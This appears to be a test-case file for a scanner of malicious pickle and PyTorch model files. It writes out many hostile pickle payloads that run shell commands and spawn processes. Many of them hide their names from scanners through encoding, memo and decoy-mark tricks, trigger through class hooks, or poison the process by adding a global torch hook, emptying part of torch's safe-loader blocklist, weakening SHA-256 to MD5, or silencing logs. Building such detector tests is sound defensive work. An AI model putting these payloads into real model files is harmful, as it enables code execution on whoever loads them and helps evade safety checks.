import type { DetectCase } from '../case.ts';
import { ADDRESS, ECHO, PRINT, rows, streams } from '../blind/make.ts';
import { u32 } from '../blind/bytes.ts';
import {
  APPENDS,
  build,
  call,
  dict,
  DUP,
  enc,
  get,
  global,
  MARK,
  newobj,
  pk,
  POP,
  POP_MARK,
  put,
  raw,
  REDUCE,
  ref,
  SETITEMS,
  STACK_GLOBAL,
  STOP,
  str,
  stream,
  tup,
  type Val,
} from '../blind/pickle.ts';

const system = ref('posix', 'system');
const first = (value: Val): Val => call(call(ref('operator', 'itemgetter'), 0), value);

const gadgets = rows('gadget', [
  [
    'exit',
    'torch-zip',
    4,
    'torch.load ends the process at once, its locks and files as they are',
    call(ref('posix', '_exit'), 3),
  ],
  [
    'symlink',
    'pickle',
    2,
    'a link to a file of the host is made',
    call(ref('posix', 'symlink'), '/etc/hostname', 'pwned'),
  ],
  ['copy', 'folder', 4, 'a file of the host is copied', call(ref('shutil', 'copyfile'), '/etc/hostname', 'pwned')],
  [
    'status-output',
    'torch-legacy',
    2,
    'a shell command and its status',
    call(ref('subprocess', 'getstatusoutput'), ECHO),
  ],
  ['browser', 'pickle', 4, 'the browser of the user is sent to an address', call(ref('webbrowser', 'open'), ADDRESS)],
  [
    'spawn',
    'torch-zip',
    4,
    'the system call for a new process',
    call(ref('posix', 'posix_spawn'), '/bin/echo', ['echo', 'pwned'], dict()),
  ],
]);

const unlisted = rows('unlisted-gadget', [
  [
    'sympify',
    'torch-zip',
    4,
    'the algebra library that torch brings evaluates a text',
    call(ref('sympy.core.sympify', 'sympify'), `__import__("os").system("${ECHO}")`),
  ],
  ['zip-writer', 'pickle', 4, 'an archive is created or emptied', call(ref('zipfile', 'ZipFile'), 'pwned', 'w')],
  [
    'listener',
    'pickle',
    4,
    'a server of files listens',
    call(
      ref('http.server', 'ThreadingHTTPServer'),
      tup('127.0.0.1', 0),
      ref('http.server', 'SimpleHTTPRequestHandler'),
    ),
  ],
  [
    'launcher',
    'torch-zip',
    4,
    'the launcher of torch starts a program',
    call(ref('torch.distributed.run', 'main'), ['--no-python', '--nproc-per-node', '1', 'echo', 'pwned']),
  ],
  [
    'process-client',
    'torch-legacy',
    4,
    'a connection over which pickles come',
    call(ref('multiprocessing.connection', 'Client'), tup('127.0.0.1', 9)),
  ],
  ['table-writer', 'folder', 4, 'numpy writes a text to a path', call(ref('numpy', 'savetxt'), 'pwned', [1])],
]);

const aliases = rows('alias', [
  ['sqlite-twin', 'pickle', 4, 'the C twin of sqlite3 creates a file', call(ref('_sqlite3', 'connect'), 'pwned')],
  [
    'vendored-spawn',
    'torch-zip',
    4,
    'the copy of distutils inside setuptools starts a program',
    call(ref('setuptools._distutils.spawn', 'spawn'), ['echo', 'pwned']),
  ],
  ['python-open', 'torch-legacy', 4, 'the Python twin of io empties a file', call(ref('_pyio', 'open'), 'pwned', 'w')],
  [
    'fork-exec',
    'pickle',
    4,
    'the C function behind subprocess starts a program (of CPython 3.11)',
    call(
      ref('_posixsubprocess', 'fork_exec'),
      [raw('C', 4, 'echo'), raw('C', 5, 'pwned')],
      [raw('C', 9, '/bin/echo')],
      false,
      tup(),
      null,
      null,
      -1,
      -1,
      -1,
      -1,
      -1,
      -1,
      0,
      2,
      false,
      false,
      -1,
      null,
      null,
      null,
      -1,
      null,
      false,
    ),
  ],
  [
    'python-loads',
    'torch-zip',
    4,
    'the Python twin of the loader loads bytes',
    call(ref('pickle', '_loads'), pk(call(system, ECHO), 4)),
  ],
  [
    'httplib',
    'pickle',
    2,
    'a Python 2 name becomes http.client and connects',
    call(call(ref('operator', 'methodcaller'), 'connect'), call(global('httplib', 'HTTPConnection'), '127.0.0.1', 9)),
  ],
]);

/** STACK_GLOBAL over two values. */
const found = (module: Val, name: Val): Val => ({ enc: (p) => [enc(module, p), enc(name, p), STACK_GLOBAL] });
const decoded = (text: Val): Val => call(call(ref('operator', 'methodcaller'), 'decode'), text);
const sysModules = call(ref('torch.ao.quantization.utils', 'getattr_from_fqn'), ref('collections', '_sys'), 'modules');

const computed = rows('computed-name', [
  [
    'unquoted',
    'pickle',
    4,
    'the names are written the way of addresses, with percent signs',
    call(
      found(call(ref('urllib.parse', 'unquote'), '%70%6fsix'), call(ref('urllib.parse', 'unquote'), 's%79stem')),
      ECHO,
    ),
  ],
  [
    'number',
    'torch-zip',
    4,
    'the name is a number whose bytes are letters',
    call(found('posix', decoded(call(ref('builtins', 'int.to_bytes'), 0x73797374656dn, 6, 'big'))), ECHO),
  ],
  [
    'likeness',
    'pickle',
    4,
    'the name is the one most like a misspelling',
    call(
      found(
        'posix',
        first(
          call(ref('difflib', 'get_close_matches'), 'sysstem', call(ref('builtins', 'dir'), ref('posixpath', 'os')), 1),
        ),
      ),
      ECHO,
    ),
  ],
  [
    'qualified',
    'torch-zip',
    4,
    'the quantisation tools of torch walk a dotted path to the shell',
    call(
      call(
        ref('torch.ao.quantization.utils', 'getattr_from_fqn'),
        call(call(ref('operator', 'itemgetter'), 'posixpath'), sysModules),
        'os.system',
      ),
      ECHO,
    ),
  ],
  [
    'own-lookup',
    'torch-legacy',
    4,
    'the lookup of the pickle module itself is called',
    call(first(call(ref('pickle', '_getattribute'), ref('posixpath', 'os'), 'system')), ECHO),
  ],
]);

const memo = streams('memo-stack', [
  [
    'from-state',
    'torch-zip',
    'the callable was memoized inside of the state of an honest object',
    () =>
      stream(
        4,
        enc(newobj(ref('types', 'SimpleNamespace')), 4),
        '}',
        MARK,
        enc('activation', 4),
        enc(system, 4),
        put(40),
        SETITEMS,
        'b',
        POP,
        get(40),
        enc(tup(ECHO), 4),
        REDUCE,
        STOP,
      ),
  ],
  [
    'overwritten-by-call',
    'pickle',
    'a memo entry with a harmless name is written over with the result of a call',
    () =>
      stream(
        4,
        enc('times', 4),
        put(3),
        POP,
        enc(call(ref('builtins', 'str'), 'system'), 4),
        put(3),
        POP,
        enc('posix', 4),
        get(3),
        STACK_GLOBAL,
        enc(tup(ECHO), 4),
        REDUCE,
        STOP,
      ),
  ],
  [
    'late-append',
    'pickle',
    'the list was memoized while empty, and its last item is taken once it is filled',
    () =>
      stream(
        4,
        ']',
        put(0),
        MARK,
        enc(ref('builtins', 'len'), 4),
        enc(system, 4),
        APPENDS,
        POP,
        enc(call(ref('operator', 'itemgetter'), -1), 4),
        get(0),
        0x85,
        REDUCE,
        enc(tup(ECHO), 4),
        REDUCE,
        STOP,
      ),
  ],
  [
    'counted-operands',
    'torch-legacy',
    'the operands are counted byte strings of Python 2, fetched from the memo',
    () =>
      stream(
        2,
        ['T', u32(5), 'posix', put(9), POP],
        ['U', 6, 'system', put(300), POP],
        get(9),
        get(300),
        STACK_GLOBAL,
        enc(tup(ECHO), 2),
        REDUCE,
        STOP,
      ),
  ],
  [
    'tower',
    'folder',
    'three hundred marks with decoys stand between the two operands and are popped',
    () =>
      stream(
        4,
        enc('posix', 4),
        Array.from({ length: 300 }, () => [MARK, str('getpid'), DUP]),
        Array.from({ length: 300 }, () => POP_MARK),
        enc('system', 4),
        STACK_GLOBAL,
        enc(tup(ECHO), 4),
        REDUCE,
        STOP,
      ),
  ],
]);

const later = call(ref('functools', 'partial'), system, ECHO);
/** A class made while loading. */
const made = (base: Val, members: Val): Val => call(ref('builtins', 'type'), 'D', tup(base), members);
const object = ref('builtins', 'object');

const forms = rows('call-form', [
  [
    'property-setter',
    'pickle',
    4,
    'BUILD sets an attribute whose setter is exec and whose object is the source',
    build(
      newobj(
        made(ref('builtins', 'str'), dict(['p', call(ref('builtins', 'property'), null, ref('builtins', 'exec'))])),
        PRINT,
      ),
      tup(null, dict(['p', dict()])),
    ),
  ],
  [
    'hash-method',
    'torch-zip',
    4,
    'an item is put under a key whose hash is the status of a command',
    dict([newobj(made(object, dict(['__hash__', later]))), 1]),
  ],
  [
    'destructor',
    'torch-legacy',
    4,
    'POP frees an object whose destructor is a command',
    { enc: (p) => [enc(newobj(made(object, dict(['__del__', later]))), p), POP, 'N'] },
  ],
  [
    'subclass-hook',
    'pickle',
    4,
    'a class is told of its subclass by a command',
    made(made(object, dict(['__init_subclass__', later])), dict()),
  ],
  [
    'class-item',
    'torch-zip',
    4,
    'the item of a class is the status of a command',
    call(ref('operator', 'getitem'), made(object, dict(['__class_getitem__', system])), ECHO),
  ],
]);

const slots = (state: Val): Val => tup(null, state);

const poison: DetectCase[] = [
  ...streams('poisoning', [
    [
      'global-hook',
      'torch-zip',
      'every module of torch runs a command before it computes from now on',
      () =>
        stream(
          4,
          enc(ref('torch.nn.modules.module', '_global_forward_pre_hooks'), 4),
          'K',
          77,
          enc(call(ref('functools', 'partial'), ref('pty', 'spawn'), ['echo', 'pwned']), 4),
          's',
          STOP,
        ),
    ],
    [
      'blocklist',
      'pickle',
      'the safe loader forgets one of the modules that it never allows',
      () =>
        stream(
          2,
          enc(global('torch._weights_only_unpickler', '_blocklisted_modules'), 2),
          'K',
          2,
          enc('none', 2),
          's',
          STOP,
        ),
    ],
  ]),
  ...rows('poisoning', [
    [
      'weak-hash',
      'torch-zip',
      4,
      'every SHA-256 of the process is an MD5 from now on',
      build(ref('urllib.request', 'hashlib'), dict(['sha256', ref('hashlib', 'md5')])),
    ],
    [
      'arguments-class',
      'pickle',
      4,
      'every name that arguments of a command line lack is run as source from now on',
      build(ref('argparse', 'Namespace'), slots(dict(['__getattr__', ref('builtins', 'exec')]))),
    ],
    [
      'silent-log',
      'torch-legacy',
      4,
      'the log of the process is silent from now on',
      build(ref('logging', 'root'), dict(['disabled', true])),
    ],
  ]),
];

export const pickleCases: readonly DetectCase[] = [
  ...gadgets,
  ...unlisted,
  ...aliases,
  ...computed,
  ...memo,
  ...forms,
  ...poison,
];
